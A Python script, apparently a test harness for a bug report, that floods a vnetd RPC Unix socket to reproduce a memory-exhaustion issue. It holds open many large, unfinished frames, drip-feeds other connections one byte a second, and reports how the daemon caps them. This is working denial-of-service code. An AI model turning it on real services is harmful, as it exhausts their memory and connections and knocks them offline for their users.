#!/usr/bin/python3
"""The memory attack of issue 25 against a vnetd RPC socket, bounded in connections and time.

usage: flood_attacker.py SOCKET SECONDS BIG_CONNECTIONS SIZES ROUNDS DRIP_CONNECTIONS

BIG_CONNECTIONS connections each announce a frame of one of SIZES (comma-separated, cycled) and send all of
it but its last byte; a connection the daemon closes is opened again, at most ROUNDS times per slot.
DRIP_CONNECTIONS connections announce a 100-byte frame and send one byte a second. After SECONDS every
connection is closed and one JSON line of counts is printed.
"""
import errno
import json
import selectors
import socket
import struct
import sys
import time

CHUNK = memoryview(bytes(256 * 1024))


class Conn:
    def __init__(self, path, size, drip):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(path)
        self.sock.setblocking(False)
        self.header = struct.pack(">I", size)
        self.left = size - 1  # payload bytes still to send
        self.drip = drip
        self.opened = time.monotonic()
        self.next_drip = self.opened

    def pump(self, now):
        """Sends what it can; returns False once the daemon closed the connection."""
        try:
            if self.drip:
                if now >= self.next_drip and self.left > 0:
                    if self.header:
                        self.sock.send(self.header[:1])
                        self.header = self.header[1:]
                    else:
                        self.sock.send(b"x")
                        self.left -= 1
                    self.next_drip = now + 1.0
            else:
                while self.header:
                    n = self.sock.send(self.header)
                    self.header = self.header[n:]
                while self.left > 0:
                    n = self.sock.send(CHUNK[:min(self.left, len(CHUNK))])
                    self.left -= n
            data = self.sock.recv(65536)
            if data == b"":
                return False
            return True  # an error frame before the close; the close follows
        except BlockingIOError:
            return True
        except (BrokenPipeError, ConnectionResetError):
            return False


def main():
    path, seconds, big, sizes, rounds, drips = (sys.argv[1], float(sys.argv[2]), int(sys.argv[3]),
                                                [int(s) for s in sys.argv[4].split(",")], int(sys.argv[5]),
                                                int(sys.argv[6]))
    stats = {"opened": 0, "refusedAtConnect": 0, "closedByDaemon": 0, "bytesSent": 0,
             "dripClosedAfterSeconds": [], "dripOpenAtEnd": 0, "bigOpenAtEnd": 0}
    end = time.monotonic() + seconds
    slots = []  # [conn or None, size, rounds left, is_drip]; drips first, so they get in before the caps
    for i in range(drips):
        slots.append([None, 100, 1, True])
    for i in range(big):
        slots.append([None, sizes[i % len(sizes)], rounds, False])
    while time.monotonic() < end:
        now = time.monotonic()
        busy = False
        for slot in slots:
            conn, size, left, drip = slot
            if conn is None:
                if left <= 0:
                    continue
                slot[2] -= 1
                try:
                    slot[0] = conn = Conn(path, size, drip)
                    stats["opened"] += 1
                except OSError as e:
                    if e.errno not in (errno.EAGAIN, errno.ECONNREFUSED):
                        raise
                    stats["refusedAtConnect"] += 1
                    continue
            sent_before = conn.left
            if not conn.pump(now):
                stats["closedByDaemon"] += 1
                if drip:
                    stats["dripClosedAfterSeconds"].append(round(now - conn.opened, 1))
                conn.sock.close()
                slot[0] = None
            if conn.left != sent_before:
                busy = True
                stats["bytesSent"] += sent_before - conn.left
        if not busy:
            time.sleep(0.02)
    for conn, size, left, drip in slots:
        if conn is not None:
            stats["dripOpenAtEnd" if drip else "bigOpenAtEnd"] += 1
            conn.sock.close()
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
